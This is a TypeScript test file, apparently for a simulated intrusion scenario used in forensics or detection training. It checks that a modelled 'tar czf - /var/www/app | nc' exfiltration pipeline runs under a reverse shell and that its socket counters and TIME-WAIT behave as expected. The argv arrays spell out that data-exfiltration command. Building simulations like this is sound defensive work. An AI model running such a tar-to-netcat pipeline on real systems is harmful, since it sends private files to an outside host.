import flagship from '../../../../scenarios/ssh-reverse-shell-beacon-exfil.yaml?raw';
import { describe, expect, it } from 'vitest';
import { compiledOnce } from './flagship.fixture';

const text = flagship;

describe('exfil tar | nc: counters rise with t', () => {
  const c = compiledOnce(text);
  const ex = c.byId('exfil', 'exfil');
  const rs = c.byId('revshell', 'reverse-shell');
  const sock = (t: number) => c.at(t).sockets.find((s) => s.id === ex.id);

  it('is a tar | nc pair under the reverse shell, nc holding the socket on fd 3', () => {
    const w = c.at(c.base.now);
    const [tar, nc] = ex.pids.map((pid) => w.processes.find((p) => p.pid === pid)!);
    expect([tar!.argv, tar!.ppid, nc!.argv, nc!.ppid]).toEqual([
      ['tar', 'czf', '-', '/var/www/app'], rs.pids[2],
      ['nc', ex.to.addr, String(ex.to.port)], rs.pids[2],
    ]);
    expect(tar!.fds.find((f) => f.fd === 1)).toEqual({ fd: 1, kind: 'pipe', target: ex.pipe, mode: 'w' });
    expect(nc!.fds.find((f) => f.fd === 0)).toEqual({ fd: 0, kind: 'pipe', target: ex.pipe, mode: 'r' });
    expect(nc!.fds.find((f) => f.fd === 3)).toEqual({ fd: 3, kind: 'socket', target: ex.inode, mode: 'u' });
  });

  it('has a large Send-Q and bytes_acked rising at the rate, bytes_sent ahead of it', () => {
    const a = sock(ex.at + 60_000)!;
    const b = sock(ex.at + 120_000)!;
    expect(a.state).toBe('ESTABLISHED');
    expect(a.sendQ).toBeGreaterThan(80_000);
    expect(b.info!.bytesAcked - a.info!.bytesAcked).toBe(60 * ex.rate);
    expect(a.info!.bytesSent).toBeGreaterThan(a.info!.bytesAcked);
    expect(a.info!.lastrcv).toBe(60_000);
  });

  it('ends when the volume is sent: TIME-WAIT for 60 s, then nothing', () => {
    const end = ex.until!;
    expect(sock(end - 1_000)?.state).toBe('ESTABLISHED');
    expect(sock(end + 1_000)?.state).toBe('TIME-WAIT');
    expect(sock(end + 61_000)).toBeUndefined();
    expect(c.at(end + 1_000).processes.some((p) => p.origin === 'exfil')).toBe(false);
  });
});
